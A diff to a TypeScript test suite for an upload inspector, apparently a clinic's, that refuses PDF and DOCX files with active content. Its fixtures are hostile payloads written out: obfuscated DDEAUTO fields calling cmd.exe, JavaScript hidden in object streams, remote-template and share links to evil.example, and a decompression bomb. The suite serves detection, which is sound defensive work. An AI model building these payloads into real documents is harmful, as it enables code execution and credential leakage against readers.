@@ -1,4 +1,5 @@
 import { randomBytes } from 'node:crypto'
+import { deflateSync } from 'node:zlib'
 import { PDFName, PDFString } from '@cantoo/pdf-lib'
 import sharp from 'sharp'
 import { type FileKind, RefusedFile } from '../src/modules/records/inspection/file-kind.js'
@@ -26,6 +27,12 @@ async function judge(kind: FileKind, bytes: Buffer): Promise<string> {
   } catch (error) {
     return error instanceof RefusedFile ? `${error.refusal}: ${error.message}` : `unreadable: ${error}`
   }
+}
+
+/** As the process of the inspection tells it. */
+const judgeRefusal = async (kind: FileKind, bytes: Buffer): Promise<string> => {
+  const [refusal = ''] = (await judge(kind, bytes)).split(': ')
+  return refusal === 'unreadable' ? 'damaged' : refusal
 }
 
 /** Under a second of work; on a busy machine the clock counts that of others. */
@@ -95,7 +102,7 @@ describe('a file that is something else', () => {
     ],
     ['another compound file as DOC', 'doc', () => writeDoc().fill(0, 512 * 3)],
   ])('is refused: %s', async (_what, kind, make) => {
-    expect(await judge(kind, await make())).toMatch(/^(type|content|unreadable): /)
+    expect(await judge(kind, await make())).toMatch(/^(?!kept|rewritten)/)
   })
 })
 
@@ -118,7 +125,7 @@ describe('a PDF', () => {
     ['encryption', { trailer: '/Encrypt << /Filter /Standard /V 1 >>' }],
     ['an object nested without end', { objects: ['['.repeat(300) + ']'.repeat(300)] }],
   ])('is refused with %s', async (_what, parts) => {
-    expect(await judge('pdf', writePdf(parts))).toMatch(/^content: /)
+    expect(await judge('pdf', writePdf(parts))).toMatch(/^(active|encrypted|complex): /)
   })
 
   it.each<[string, (document: Parameters<NonNullable<Parameters<typeof writeCompressedPdf>[0]>>[0]) => void]>(
@@ -137,13 +144,13 @@ describe('a PDF', () => {
   )('is refused with %s inside an object stream', async (_what, change) => {
     const bytes = await writeCompressedPdf(change)
     expect(bytes.toString('latin1')).not.toMatch(/JavaScript|Launch|Filespec/)
-    expect(await judge('pdf', bytes)).toMatch(/^content: (a key|not allowed)/)
+    expect(await judge('pdf', bytes)).toMatch(/^active: /)
   })
 
   it('is refused with a script that a later object of the same number hides', async () => {
     const text = writePdf({ objects: ['<< /JS (x) >>'] }).toString('latin1')
     const later = text.replace('xref\n', '4 0 obj\n<< /A 1 >>\nendobj\nxref\n')
-    expect(await judge('pdf', Buffer.from(later, 'latin1'))).toMatch(/^content: a key/)
+    expect(await judge('pdf', Buffer.from(later, 'latin1'))).toMatch(/^active: a key/)
   })
 
   it.each([
@@ -152,11 +159,10 @@ describe('a PDF', () => {
     ['as a zip behind it', (bytes: Buffer) => Buffer.concat([bytes, writeDocx(), Buffer.from('%%EOF')])],
     ['instead of its end', (bytes: Buffer) => bytes.subarray(0, -20)],
   ])('is refused with something %s', async (_what, change) => {
-    expect(await judge('pdf', change(writePdf()))).toMatch(/^(type|content): /)
+    expect(await judge('pdf', change(writePdf()))).toMatch(/^(?!kept|rewritten)/)
   })
 
   it('is refused in under a second when its objects expand without end', async () => {
-    const { deflateSync } = await import('node:zlib')
     const bomb = deflateSync(Buffer.alloc(300_000_000, ' '), { level: 1 })
     const head = Buffer.from(
       `%PDF-1.7\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`,
@@ -167,7 +173,132 @@ describe('a PDF', () => {
       Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
     ])
     expect(bytes.length).toBeLessThan(10 * 1024 * 1024)
-    expect(await judge('pdf', bytes)).toBe('content: expands too far')
+    expect(await judge('pdf', bytes)).toBe('complex: expands too far')
+  })
+
+  const shared = (action: number) => `<< /S /GoTo /Next [${action + 1} 0 R ${action + 1} 0 R] >>`
+  it.each<[string, Buffer, RegExp]>([
+    [
+      'opening actions that share the next one',
+      writePdf({
+        catalog: '/OpenAction 4 0 R',
+        objects: [...Array.from({ length: 22 }, (_, index) => shared(4 + index)), '<< /S /GoTo >>'],
+      }),
+      /^kept/,
+    ],
+    [
+      'one object many times',
+      Buffer.from(
+        writePdf()
+          .toString('latin1')
+          .replace('xref', `${'4 0 obj\nnull\nendobj\n'.repeat(30_000)}xref`),
+      ),
+      /^complex: an object too often/,
+    ],
+  ])('is read in under a second with %s', async (_what, bytes, verdict) => {
+    expect(await quickly(() => judge('pdf', bytes))).toMatch(verdict)
+  })
+
+  it('finds a script behind actions that are shared', async () => {
+    const objects = [shared(4), '<< /S /GoTo /Next [6 0 R] >>', '<< /S /URI /URI (https://clinic.example) >>']
+    expect(await judge('pdf', writePdf({ catalog: '/OpenAction 4 0 R', objects }))).toBe(
+      'active: an action at the opening',
+    )
+  })
+})
+
+/** The attacks on PDF readers that a search for names does not see. */
+describe('a PDF with active content in disguise', () => {
+  it.each<[string, string]>([
+    ['without its type', '/N 1 /First 4'],
+    ['with a wrong type', '/Type /XObject /N 1 /First 4'],
+    ['whose type stands elsewhere', '/Type 9 0 R /N 1 /First 4'],
+    ['whose numbers stand elsewhere', '/N 5 0 R /First 6 0 R'],
+  ])('is refused with a script in an object stream %s', async (_what, entries) => {
+    const content = deflateSync(Buffer.from('9 0 << /S /JavaScript /JS (app.alert(1)) >>'))
+    const stream = `<< ${entries} /Filter /FlateDecode /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`
+    const bytes = writePdf({ objects: [stream, '1', '4'] })
+    expect(bytes.toString('latin1')).not.toContain('JavaScript')
+    expect(await judge('pdf', bytes)).toMatch(/^active: /)
+  })
+
+  it('is refused with an object stream that cannot be read', async () => {
+    const stream = '<< /N 1 /First 4 /Filter /DCTDecode /Length 4 >>\nstream\nabcd\nendstream'
+    expect(await judge('pdf', writePdf({ objects: [stream] }))).toBe('active: objects that cannot be read')
+  })
+
+  const uri = '<< /S /URI /URI (https://evil.example) >>'
+  it.each<[string, Parameters<typeof writePdf>[0]]>([
+    ['a web page at the opening', { catalog: `/OpenAction ${uri}` }],
+    ['a web page at the opening, by reference', { catalog: '/OpenAction 4 0 R', objects: [uri] }],
+    [
+      'a web page at the opening, hidden by a later object of the same number',
+      { catalog: '/OpenAction 4 0 R', objects: [`${uri}\nendobj\n4 0 obj\n[3 0 R /Fit]`] },
+    ],
+    ['a web page after a move', { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${uri}] >>` }],
+    ['an action of the document', { catalog: `/AA << /WC ${uri} >>` }],
+    ['an action of a page', { objects: [`<< /Type /Page /Parent 2 0 R /AA << /O ${uri} >> >>`] }],
+    [
+      'an action of an annotation, by reference',
+      { objects: ['<< /Subtype /Widget /AA 5 0 R >>', `<< /E ${uri} >>`] },
+    ],
+    [
+      'a document on a share',
+      { objects: ['<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'] },
+    ],
+    ['a link to a share', { objects: ['<< /S /URI /URI (file://evil.example/a) >>'] }],
+    ['a link that runs a script', { objects: ['<< /S /URI /URI (javascript:alert\\(1\\)) >>'] }],
+    ['a base address on a share', { catalog: '/URI << /Base (file://evil.example/) >>' }],
+    [
+      'a stream in another file',
+      { objects: ['<< /F (\\\\\\\\evil.example\\\\a) /Length 0 >>\nstream\n\nendstream'] },
+    ],
+    [
+      'a page of another file',
+      {
+        objects: [
+          '<< /Subtype /Form /Ref << /F (http://evil.example/a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream',
+        ],
+      },
+    ],
+    ['a file by its address', { objects: ['<< /Type /Filespec /FS /URL /F (http://evil.example/a) >>'] }],
+    ['a portfolio', { catalog: '/Collection << /View /D >>' }],
+  ])('is refused with %s', async (_what, parts) => {
+    expect(await judge('pdf', writePdf(parts))).toMatch(/^active: /)
+  })
+
+  it.each<[string, Parameters<typeof writePdf>[0]]>([
+    ['a destination at the opening', { catalog: '/OpenAction [3 0 R /Fit]' }],
+    ['a move at the opening', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }],
+    ['printing at the opening', { catalog: '/OpenAction << /S /Named /N /Print >>' }],
+    ['a link to a mail address', { objects: ['<< /S /URI /URI (mailto:clinic@a.example) >>'] }],
+    ['a link without a scheme', { objects: ['<< /S /URI /URI (www.clinic.example/results) >>'] }],
+    ['a colour profile', { objects: ['<< /N 3 /Length 1 >>\nstream\na\nendstream'] }],
+  ])('is accepted with %s', async (_what, parts) => {
+    expect(await judge('pdf', writePdf(parts))).toBe('kept')
+  })
+})
+
+describe('a refused file says why', () => {
+  it.each<[string, FileKind, () => Buffer | Promise<Buffer>, string]>([
+    ['a PDF without its end', 'pdf', () => writePdf().subarray(0, -20), 'damaged'],
+    ['a PDF without its beginning', 'pdf', () => writePdf().subarray(6), 'damaged'],
+    ['an empty file', 'pdf', () => Buffer.alloc(0), 'damaged'],
+    ['half a DOCX', 'docx', () => writeDocx().subarray(0, 300), 'damaged'],
+    ['a PDF with a password', 'pdf', () => writePdf({ trailer: '/Encrypt << /V 1 >>' }), 'encrypted'],
+    ['a DOC with a password', 'doc', () => writeDoc({}, { flags: 0x0100 }), 'encrypted'],
+    [
+      'a DOCX with a password',
+      'docx',
+      () => writeDoc({ '/EncryptedPackage': Buffer.from('x') }),
+      'encrypted',
+    ],
+    ['a PDF with a script', 'pdf', () => writePdf({ objects: ['<< /JS (x) >>'] }), 'active'],
+    ['a picture of too many pixels', 'png', () => writePixelBomb(60_000, 2_000), 'complex'],
+    ['a picture as PDF', 'pdf', () => writePng(), 'type'],
+    ['a web page as PDF', 'pdf', () => Buffer.from('<!DOCTYPE html>'), 'type'],
+  ])('%s', async (_what, kind, make, refusal) => {
+    expect(await judgeRefusal(kind, await make())).toBe(refusal)
   })
 })
 
@@ -235,7 +366,7 @@ describe('a DOCX', () => {
     ['something before it', Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(200), writeDocx()])],
     ['something behind it', Buffer.concat([writeDocx(), Buffer.from('<script>')])],
   ])('is refused with %s', async (_what, bytes) => {
-    expect(await judge('docx', bytes)).toMatch(/^(content|unreadable): /)
+    expect(await judge('docx', bytes)).toMatch(/^(?!kept|rewritten)/)
   })
 
   it.each<[string, () => Buffer]>([
@@ -266,7 +397,95 @@ describe('a DOCX', () => {
     ],
   ])('is refused in under a second with %s', async (_what, make) => {
     const bytes = make()
-    expect(await quickly(() => judge('docx', bytes))).toMatch(/^(content|unreadable): /)
+    expect(await quickly(() => judge('docx', bytes))).toMatch(/^(?!kept|rewritten)/)
+  })
+})
+
+/** The attacks on Word readers that a pattern over the text of known parts does not see. */
+describe('a DOCX with active content in disguise', () => {
+  const field = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`
+  const whole = (code: string) =>
+    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field(code)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
+  const other = 'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+  const strict = 'xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main"'
+  it.each<[string, Parameters<typeof docxParts>[0]]>([
+    ['DDEAUTO spelt in entities', { body: whole('&#68;&#x44;EAUTO c:\\cmd.exe') }],
+    ['DDEAUTO in CDATA', { body: whole('<![CDATA[DDE]]>AUTO c:\\cmd.exe') }],
+    ['DDE split by a comment', { body: whole('D<!-- -->DE c:\\cmd.exe') }],
+    ['DDEAUTO split over runs', { body: whole(`DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe`) }],
+    [
+      'DDEAUTO under another prefix',
+      { body: `<q:p ${other}><q:r><q:instrText>DDEAUTO c:\\cmd</q:instrText></q:r></q:p>` },
+    ],
+    [
+      'DDEAUTO in the strict namespace',
+      { body: `<q:p ${strict}><q:r><q:instrText>DDEAUTO x</q:instrText></q:r></q:p>` },
+    ],
+    [
+      'DDE in a simple field under another prefix',
+      { body: `<q:fldSimple ${other} q:instr="&#68;DE c:\\cmd"/>` },
+    ],
+    [
+      'DDEAUTO in a main part with another name',
+      { main: 'content/letter.xml', body: whole('DDEAUTO c:\\cmd') },
+    ],
+    [
+      'DDEAUTO in a main part without the usual ending',
+      { main: 'word/document.dat', body: whole('DDEAUTO c:\\cmd') },
+    ],
+    [
+      'a field whose name another field computes',
+      {
+        body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('DD')}<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 69')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+      },
+    ],
+    ['INCLUDEPICTURE by http', { body: whole('INCLUDEPICTURE "http://evil.example/a.png" \\d') }],
+    ['INCLUDEPICTURE from a share', { body: whole('INCLUDEPICTURE "\\\\evil.example\\share\\a.png"') }],
+    ['INCLUDETEXT', { body: whole('INCLUDETEXT "https://evil.example/a.docx"') }],
+    ['IMPORT', { body: whole('IMPORT a.png') }],
+    ['LINK', { body: whole('LINK Excel.Sheet.8 "\\\\evil.example\\a.xlsx"') }],
+    [
+      'a VML picture by http',
+      { body: '<w:pict><v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict>' },
+    ],
+    ['a VML link to a share', { body: '<w:pict><v:shape href="\\\\evil.example\\share"/></w:pict>' }],
+    ['an OLE object', { body: '<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8"/></w:object>' }],
+    ['a part in another format', { body: '<w:altChunk r:id="x"/>' }],
+    [
+      'a template from a share',
+      { links: relations(relation('attachedTemplate', 'file://evil.example/a.dotm', 'External')) },
+    ],
+    ['a relationship to an OLE object', { links: relations(relation('oleObject', 'a.dat')) }],
+    ['a frame from elsewhere', { links: relations(relation('frame', 'https://evil.example', 'External')) }],
+  ])('is refused with %s', async (_what, options) => {
+    expect(await judge('docx', writeDocx([], options))).toMatch(/^active: /)
+  })
+
+  it.each<[string, Parameters<typeof docxParts>[0]]>([
+    [
+      'page numbers and a table of contents',
+      { body: whole('PAGE \\* MERGEFORMAT') + whole('TOC \\o "1-3" \\h') },
+    ],
+    ['a link as a field', { body: whole('HYPERLINK "https://clinic.example"') }],
+    [
+      'the words of a patient',
+      { body: '<w:p><w:r><w:t>Please link and import my DDE results</w:t></w:r></w:p>' },
+    ],
+    [
+      'a template on a local drive',
+      { links: relations(relation('attachedTemplate', 'file:///C:\\Users\\a\\Letter.dotx', 'External')) },
+    ],
+    ['a main part with another name', { main: 'content/letter.xml' }],
+  ])('is accepted with %s', async (_what, options) => {
+    expect(await judge('docx', writeDocx([], options))).toBe('kept')
+  })
+
+  it('is read in under a second with many fields in a long one', async () => {
+    const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`
+    const inner = (mark('begin') + mark('end')).repeat(6_000)
+    const code = `<w:instrText>QUOTE ${'x'.repeat(500_000)}</w:instrText>`
+    const body = `<w:p>${mark('begin')}${code}${inner}${mark('end')}</w:p>`
+    expect(await quickly(() => judge('docx', writeDocx([], { body })))).toBe('kept')
   })
 })
 
@@ -276,7 +495,7 @@ describe('a DOC', () => {
     ['a package', writeDoc({ '/ObjectPool/_1/\x01Ole10Native': Buffer.from('x') })],
     ['encryption', writeDoc({}, { flags: 0x0100 })],
   ])('is refused with %s', async (_what, bytes) => {
-    expect(await judge('doc', bytes)).toMatch(/^content: /)
+    expect(await judge('doc', bytes)).toMatch(/^(active|encrypted): /)
   })
 })
 
